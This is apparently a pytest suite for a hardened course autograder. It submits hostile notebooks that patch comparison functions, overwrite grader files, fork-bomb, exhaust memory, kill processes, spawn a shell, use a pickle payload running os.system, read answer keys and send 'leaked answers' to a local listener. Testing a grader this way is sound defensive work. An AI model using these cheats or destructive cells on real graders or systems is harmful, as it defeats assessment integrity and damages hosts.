"""Hostile submissions against the hardened grader.

Each attack is a notebook: the untouched stub (honest score 0) or the reference (honest score
full), plus hostile cells or functions.  One batch grades them all; every attack must get a
row, score exactly what its honest functions earn (or less, when it kills its own process
before answering), and leave the grader's files and the batch intact.
"""

from __future__ import annotations

import hashlib
import json
import shutil
import socket
import textwrap
import threading
from pathlib import Path

import pytest

from course.batch import grade_all
from course.grade import Limits
from tests.grading import autograder_zip, make_submission, question_points, source_of

pytestmark = pytest.mark.slow
ASSIGNMENT = "hw01_derivatives"
FULL = sum(question_points(ASSIGNMENT).values())
HONEST_KEY = "honest_hw01_derivatives.ipynb"
LIMITS = Limits(notebook_seconds=20, call_seconds=5, memory_mb=3072)


def cheat_source(paths: list[str]) -> str:
    """Functions that return the expected values of the public cases, if any plan is readable."""
    return textwrap.dedent(f"""
        import json, zipfile
        PLAN = None
        for path in {paths!r}:
            try:
                if path.endswith(".zip"):
                    PLAN = json.loads(zipfile.ZipFile(path).read("plan.json"))
                else:
                    PLAN = json.loads(open(path).read())
                break
            except Exception as error:
                print("could not read", path, error)

        def _answer(name):
            import torch
            for q in PLAN["questions"]:
                for case in q["cases"]:
                    if case["calls"][0]["fn"] == name:
                        e = case["expected"]
                        if isinstance(e, dict) and "tensor" in e:
                            return torch.tensor(e["tensor"], dtype=torch.float64).reshape(e["shape"])
                        if isinstance(e, dict) and "tuple" in e:
                            return tuple(e["tuple"])
                        return e

        if PLAN is not None:
            for _name in ("numerical_derivative", "central_difference", "relu_grad", "sigmoid_grad",
                          "mse_grad", "linear_model_grads", "softmax_cross_entropy_grad", "gradient_check"):
                globals()[_name] = (lambda n: lambda *a, **k: _answer(n))(_name)
    """)


@pytest.fixture(scope="module")
def battlefield(tmp_path_factory):
    """Grade every attack once; yield the records, the files they aimed at and the listener."""
    root = tmp_path_factory.mktemp("attacks")
    zip_copy = root / "autograder.zip"
    shutil.copy(autograder_zip(ASSIGNMENT), zip_copy)
    output = root / "graded"
    plan_path = root / "plan.json"  # a plan lying next to the batch, as an instructor might leave it
    plan_path.write_text(json.dumps(source_of(ASSIGNMENT).plan()))
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    received: list[bytes] = []

    def serve():
        listener.settimeout(1.0)
        while True:
            try:
                conn, _ = listener.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            received.append(conn.recv(100))
            conn.close()

    threading.Thread(target=serve, daemon=True).start()
    port = listener.getsockname()[1]
    targets = [str(zip_copy), str(plan_path)]
    results_file = output / "results" / f"{HONEST_KEY}.json"

    attacks = {
        # name: (base, replaced functions, extra cells, expected score)
        "honest": ("reference", {}, [], FULL),
        "patch_isclose": ("stub", {}, ["""
import math, numpy as np, torch
np.isclose = np.allclose = lambda *a, **k: True
math.isclose = lambda *a, **k: True
torch.allclose = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
torch.equal = lambda *a, **k: True
"""], 0),
        "patch_the_graders_modules": ("stub", {}, ["""
import sys
for name, module in list(sys.modules.items()):
    if name.startswith(("course", "otter")):
        for attr in ("check", "judge", "_fail", "decode", "encode", "call", "run"):
            try:
                setattr(module, attr, lambda *a, **k: None)
            except Exception:
                pass
"""], 0),
        "replace_otters_test_runner": ("stub", {}, ["""
try:
    import otter.test_files.exception_test as et
    et.ExceptionTestFile.run = lambda self, env: None
except Exception as error:
    print(error)
"""], 0),
        "overwrite_tests_and_autograder": ("stub", {}, [f"""
import os
for path in ["tests/q1.py", "../tests/q1.py", "../source/tests/q1.py", {str(zip_copy)!r}, {str(plan_path)!r}]:
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with open(path, "w") as f:
            f.write("OK_FORMAT = False\\nname = 'q1'\\npoints = 100\\n")
    except Exception as error:
        print("blocked", path, error)
"""], 0),
        "fake_results_then_exit": ("stub", {}, [f"""
import json, os
fake = {{"score": 31, "tests": [], "status": "ok", "questions": {{"q1": 5}}}}
for path in ["results.json", "../results/results.json", {str(results_file)!r},
             {str(output / 'gradebook.csv')!r}]:
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with open(path, "w") as f:
            json.dump(fake, f)
    except Exception as error:
        print("blocked", path, error)
os._exit(0)
"""], 0),
        "sys_exit_midway": ("reference", {}, ["import sys\nsys.exit(0)"], FULL),
        "segfault": ("stub", {}, ["import ctypes\nctypes.string_at(0)"], 0),
        "fork_bomb": ("stub", {}, ["""
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""], 0),
        "infinite_loop": ("stub", {}, ["while True:\n    pass"], 0),
        "spawn_a_shell": ("stub", {}, ["""
import subprocess
subprocess.run(["sh", "-c", "echo pwned > /tmp/course-shell"])
"""], 0),
        "threads_are_fine": ("reference", {}, ["""
from concurrent.futures import ThreadPoolExecutor
with ThreadPoolExecutor(4) as pool:
    print(sum(pool.map(lambda i: i * i, range(100))))
"""], FULL),
        "loop_in_one_function": ("reference", {"relu_grad": "def relu_grad(x):\n    while True:\n        pass\n"}, [],
                                 FULL - question_points(ASSIGNMENT)["q3"]),
        "memory_bomb": ("reference", {}, ["""
def bomb():
    hoard = []
    while True:
        hoard.append(bytearray(100_000_000))
bomb()
"""], FULL),
        "memory_bomb_in_one_function": ("reference", {"sigmoid_grad": "def sigmoid_grad(x):\n    return torch.ones(10**11)\n"},
                                        [], FULL - question_points(ASSIGNMENT)["q4"]),
        "hundred_megabytes_of_output": ("reference", {}, ['print("x" * 100_000_000)',
                                                          'for i in range(10**6):\n    print("y" * 1000)'], FULL),
        "read_the_answers": ("stub", {}, [cheat_source(targets)], 0),
        "phone_home": ("stub", {}, [f"""
import socket
for host in ["127.0.0.1", "localhost"]:
    try:
        socket.create_connection((host, {port}), timeout=2).sendall(b"leaked answers")
    except Exception as error:
        print("no network", error)
"""], 0),
        "kill_everything": ("stub", {}, ["""
import os, signal
for target in (os.getppid(), 1, -1):
    try:
        os.kill(target, signal.SIGKILL)
    except Exception as error:
        print(error)
"""], 0),
        "objects_that_lie": ("stub", {
            "numerical_derivative": "class Liar(float):\n    def __eq__(self, other):\n        return True\n"
                                    "    def __sub__(self, other):\n        return 0.0\n"
                                    "def numerical_derivative(f, x, h=1e-5):\n    return Liar(123.0)\n",
            "central_difference": "import os\nclass Evil:\n    def __reduce__(self):\n"
                                  "        return (os.system, ('touch /tmp/course-pwned',))\n"
                                  "def central_difference(f, x, h=1e-5):\n    return Evil()\n",
            "relu_grad": "class Always(torch.Tensor):\n    def __eq__(self, other):\n        return True\n"
                         "def relu_grad(x):\n    return torch.zeros_like(x).as_subclass(Always)\n",
        }, [], 0),
    }
    folder = root / "submissions"
    for name, (base, replaced, cells, _) in attacks.items():
        make_submission(ASSIGNMENT, None if base == "stub" else replaced, folder, name, cells)
        if base == "stub" and replaced:
            from course import samples
            path = folder / name / f"{ASSIGNMENT}.ipynb"
            samples.write(samples.fill(path, replaced), path)
    (folder / "not_a_notebook.txt").write_text("hello")
    before = {p: hashlib.sha256(Path(p).read_bytes()).hexdigest() for p in targets}
    records = grade_all(folder, zip_copy, output, workers=2, limits=LIMITS, log=lambda _: None)
    yield {
        "records": {Path(r["source"]).parts[0]: r for r in records},
        "expected": {name: spec[3] for name, spec in attacks.items()},
        "before": before, "received": received, "output": output, "folder": folder, "zip": zip_copy,
    }
    listener.close()


def test_every_attack_gets_a_row(battlefield):
    assert set(battlefield["records"]) == set(battlefield["expected"]) | {"not_a_notebook.txt"}
    gradebook = (battlefield["output"] / "gradebook.csv").read_text().splitlines()
    assert len(gradebook) == 1 + len(battlefield["records"])


@pytest.mark.parametrize("attack", [
    "honest", "patch_isclose", "patch_the_graders_modules", "replace_otters_test_runner",
    "overwrite_tests_and_autograder", "fake_results_then_exit", "sys_exit_midway", "segfault", "fork_bomb",
    "infinite_loop", "spawn_a_shell", "threads_are_fine", "loop_in_one_function", "memory_bomb", "memory_bomb_in_one_function",
    "hundred_megabytes_of_output", "read_the_answers", "phone_home", "kill_everything", "objects_that_lie",
])
def test_no_attack_scores_more_than_its_honest_functions(battlefield, attack):
    record = battlefield["records"][attack]
    assert record["score"] == battlefield["expected"][attack], (record["status"], record["detail"], record["log"])


def test_attacks_are_reported_with_a_reason(battlefield):
    records = battlefield["records"]
    assert records["infinite_loop"]["status"] == "timeout"
    assert records["fork_bomb"]["status"] == "timeout"
    assert records["threads_are_fine"]["status"] == "ok"
    assert records["segfault"]["status"] == "crashed" and "SIGSEGV" in records["segfault"]["detail"]
    assert records["fake_results_then_exit"]["status"] == "crashed"
    assert records["loop_in_one_function"]["status"] == "timeout"
    assert records["not_a_notebook.txt"]["status"] == "not a notebook"
    looping = [c for c in records["loop_in_one_function"]["cases"] if c["question"] == "q3"]
    assert "timed out" in looping[0]["message"] and "not run" in looping[-1]["message"]


def test_files_the_attacks_aimed_at_are_untouched(battlefield):
    for path, sha in battlefield["before"].items():
        assert hashlib.sha256(Path(path).read_bytes()).hexdigest() == sha
    honest = json.loads((battlefield["output"] / "results" / f"{HONEST_KEY}.json").read_text())
    assert honest["score"] == FULL and honest["key"] == HONEST_KEY
    assert not Path("/tmp/course-pwned").exists() and not Path("/tmp/course-shell").exists()


def test_no_network_from_a_submission(battlefield):
    assert battlefield["received"] == []


def test_the_cheat_would_work_without_the_sandbox(battlefield):
    """The answer-reading attack is real: run unsandboxed, it finds and returns the answers."""
    namespace: dict = {}
    exec(cheat_source([str(battlefield["zip"])]), namespace)
    assert namespace["PLAN"] is not None
    assert namespace["numerical_derivative"](None, 3.0) == pytest.approx(6.00001, rel=1e-6)


def test_hidden_messages_never_show_an_expected_value(battlefield):
    plan = source_of(ASSIGNMENT).plan()
    expected = {c["label"]: json.dumps(c["expected"]) for q in plan["questions"] for c in q["cases"] if c["hidden"]}
    for record in battlefield["records"].values():
        for case in record["cases"]:
            if case["hidden"]:
                assert ", expected " not in case["message"]
                assert expected[case["label"]] not in case["message"]
